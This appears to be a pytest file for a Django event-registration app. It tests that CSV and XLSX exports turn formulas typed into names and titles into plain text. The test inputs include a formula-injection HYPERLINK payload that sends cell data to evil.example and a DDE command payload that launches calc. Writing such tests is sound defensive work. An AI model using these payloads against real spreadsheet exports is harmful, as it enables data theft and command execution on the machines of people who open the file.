"""No formula reaches a spreadsheet: what people type (names, titles, organisations) arrives in every CSV and XLSX
export as text, through the one export helper in `rozwoj/core/exports.py`."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rozwoj.accounts.models import Role, User
from rozwoj.events.tests.factories import EventFactory, SessionFactory, hybrid_event
from rozwoj.people.tests.factories import person_with_login

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"Kliknij")'
ROZWOJ = Path(__file__).resolve().parents[2] / "rozwoj"


def _sign_up_and_register(client, event) -> None:
    """A visitor signs up with a formula for a first name and registers for the public event."""
    response = client.post(
        reverse("account_signup"),
        {
            "email": "atak@example.org",
            "password1": "dlugie-haslo-9876",
            "password2": "dlugie-haslo-9876",
            "first_name": HYPERLINK,
            "last_name": "+SUM(1,2)",
        },
    )
    assert response.status_code == 302
    client.force_login(User.objects.get(email="atak@example.org"))
    response = client.post(reverse("events:register", args=[event.pk]), {"mode": "on_site"})
    assert response.status_code == 302
    client.logout()


def _csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_formula_in(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_a_formula_typed_as_a_name_reaches_the_participants_export_as_text(client):
    event = hybrid_event(title="Szkolenie otwarte")
    _sign_up_and_register(client, event)
    client.force_login(person_with_login(Role.COORDINATOR).user)

    xlsx = client.get(reverse("events:participants_export", args=[event.pk, "xlsx"])).content
    _no_formula_in(xlsx)
    row = next(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))
    assert (row[0].value, row[1].value) == ("+SUM(1,2)", HYPERLINK)
    assert (row[0].data_type, row[1].data_type) == ("s", "s")

    rows = _csv_cells(client.get(reverse("events:participants_export", args=[event.pk, "csv"])))
    assert rows[1][:2] == ["'+SUM(1,2)", "'" + HYPERLINK]


def test_event_titles_are_neutralised_and_dates_stay_dates_in_the_event_export(client):
    SessionFactory(event=EventFactory(title="@cmd|' /C calc'!A0"))
    client.force_login(person_with_login(Role.COORDINATOR).user)

    xlsx = client.get(reverse("events:export", args=["xlsx"])).content
    _no_formula_in(xlsx)
    header, row = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(max_row=2))
    assert row[1].value == "@cmd|' /C calc'!A0"
    assert row[1].data_type == "s"
    assert row[0].data_type == "n"  # the ID is a number
    assert row[7].is_date  # "Starts"

    rows = _csv_cells(client.get(reverse("events:export", args=["csv"])))
    assert rows[1][1] == "'@cmd|' /C calc'!A0"


# Writers of spreadsheets: only rozwoj/core/exports.py may use them.
SPREADSHEET_WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\b|\bWorkbook\s*\(|\bWriteOnlyCell\b|\bxlsxwriter\b|\btablib\b|\bto_csv\s*\("
)


def test_no_export_bypasses_the_helper():
    offenders = []
    for path in ROZWOJ.rglob("*.py"):
        relative = path.relative_to(ROZWOJ)
        if relative.parts[0] == "core" and relative.name == "exports.py":
            continue
        if "tests" in relative.parts or "migrations" in relative.parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if SPREADSHEET_WRITERS.search(line):
                offenders.append(f"rozwoj/{relative}:{number}: {line.strip()}")
    assert not offenders, (
        "Write CSV/XLSX through rozwoj.core.exports (export_response), which neutralises formulas:\n"
        + "\n".join(offenders)
    )
